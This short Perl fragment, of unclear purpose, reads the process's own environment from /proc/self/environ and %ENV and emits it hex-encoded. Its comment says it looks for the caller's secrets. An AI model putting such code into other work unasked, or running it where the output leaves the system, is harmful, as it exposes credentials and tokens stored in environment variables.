# looks for the caller's secrets in its own environment
my $bytes = read_bytes('/proc/self/environ', 65536) // '';
$bytes .= "\0$_=$ENV{$_}" for sort keys %ENV;
escaped('bytes ' . unpack('H*', $bytes));
